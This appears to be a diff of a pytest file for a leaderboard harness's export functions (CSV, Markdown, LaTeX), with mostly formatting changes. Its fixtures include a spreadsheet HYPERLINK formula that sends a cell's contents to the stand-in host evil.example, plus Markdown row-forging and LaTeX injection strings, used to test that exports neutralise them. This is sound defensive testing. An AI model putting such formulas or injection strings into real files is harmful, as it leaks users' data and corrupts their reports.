@@ -8,10 +8,10 @@ import re
 
 import pandas as pd
 import pytest
-
 from board_records import HEAD, record, track
-from harness.scoring.rank import rank
+
 from harness.publish.exports import export_board, read_csv_export, to_latex, to_markdown
+from harness.scoring.rank import rank
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORGED = "Evil\n| 1 | Forged | distillation | 99.00 | yes |\r\nrow"
@@ -23,7 +23,9 @@ HOSTILE = {  # submission id -> (name, team, methods)
     "latex": (LATEX, "50% & co_", ["#1 ~ ^"]),
     "apostrophe": ("'quoted", "\r\nCR team", ["plain"]),
 }
-TRACK = HEAD + """tasks:
+TRACK = (
+    HEAD
+    + """tasks:
   - {task: sst2, split: validation}
 score: {rule: mean}
 measurement: {measure: [params, flops]}
@@ -32,6 +34,7 @@ elue:
   reference_curve: {model: hand-made, source: tests, points: {sst2: [[0.5e9, 80], [3.0e9, 92]]}}
 ranking: {by: elue_score, then: [score]}
 """
+)
 
 
 @pytest.fixture(scope="module")
@@ -63,7 +66,7 @@ def test_markdown_cells_cannot_forge_rows_or_columns(board):
     md = to_markdown(board)
     lines = md.splitlines()
     start = next(i for i, line in enumerate(lines) if line.startswith("| Rank |"))
-    table = lines[start:lines.index("", start)]  # a Markdown table runs to the first blank line
+    table = lines[start : lines.index("", start)]  # a Markdown table runs to the first blank line
     assert len(table) == 2 + len(board.rows)  # header, rule and one line per row: no forged line
     assert all(line.startswith("| ") or line.startswith("|---") for line in table)
     assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1  # every row has the header's cells
